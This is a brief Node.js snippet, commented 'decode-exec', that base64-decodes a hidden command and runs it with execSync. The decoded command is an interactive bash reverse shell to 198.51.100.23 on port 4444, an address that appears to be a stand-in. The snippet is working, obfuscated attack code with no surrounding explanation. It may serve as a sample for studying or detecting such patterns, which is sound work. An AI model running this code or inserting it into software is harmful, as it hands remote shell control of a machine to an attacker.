// decode-exec: a decoded shell command given to execSync
const { execSync } = require('child_process');
const cmd = Buffer.from('YmFzaCAtYyAiYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzQ0NDQgMD4mMSI=', 'base64').toString();
execSync(cmd);
